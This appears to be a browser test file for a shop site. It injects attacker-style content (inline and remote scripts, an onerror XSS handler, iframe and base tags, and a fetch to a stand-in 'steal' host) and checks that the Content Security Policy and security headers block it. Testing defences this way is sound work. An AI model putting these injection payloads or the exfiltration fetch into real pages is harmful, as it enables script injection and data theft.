import { expect, open, test } from './shop.ts';

test('what an attacker slips into a page neither runs nor restyles it @desktop', async ({ page, allow }) => {
  // The browser says that it refused; that is the point here.
  allow(
    /Content Security Policy|^csp: (script-src|style-src|img-src|frame-src|base-uri|object-src|connect-src)/,
  );
  allow(/^failed: .*elsewhere\.example/);
  await open(page, '/');
  const before = await page.evaluate(() => getComputedStyle(document.body).outlineStyle);
  await page.evaluate(`(() => {
    const script = document.createElement('script');
    script.textContent = 'window.attacked = "inline script"';
    document.body.append(script);
    const remote = document.createElement('script');
    remote.src = 'https://elsewhere.example/a.js';
    document.body.append(remote);
    const style = document.createElement('style');
    style.textContent = 'body{outline:9px dashed red!important}';
    document.head.append(style);
    const holder = document.createElement('div');
    holder.innerHTML =
      '<img src="/nada.png" onerror="window.attacked = \\'handler\\'">' +
      '<iframe src="https://elsewhere.example/"></iframe><base href="https://elsewhere.example/">' +
      '<p style="position:fixed;inset:0" id="over">x</p>';
    document.body.append(holder);
    fetch('https://elsewhere.example/steal').catch(() => {});
  })()`);
  allow(/nada\.png|404/);
  await expect
    .poll(() =>
      page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations.join('\n')),
    )
    .toMatch(/script-src-attr/);
  const violations = await page.evaluate(() =>
    (window as unknown as { cspViolations: string[] }).cspViolations.join('\n'),
  );
  for (const directive of [
    'script-src-elem inline',
    'script-src-elem https',
    'style-src-elem inline',
    'style-src-attr inline',
    'base-uri',
    'connect-src',
  ])
    expect(violations).toContain(directive);
  expect(await page.evaluate(() => (window as unknown as { attacked?: string }).attacked)).toBeUndefined();
  expect(await page.evaluate(() => getComputedStyle(document.body).outlineStyle)).toBe(before);
  expect(
    await page.evaluate(() => getComputedStyle(document.querySelector('#over') ?? document.body).position),
  ).toBe('static');
});

test('no other site can frame the shop or read its replies @desktop', async ({ page }) => {
  const reply = await page.goto('/');
  const headers = reply?.headers() ?? {};
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers['cross-origin-resource-policy']).toBe('same-origin');
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['access-control-allow-origin']).toBeUndefined();
});
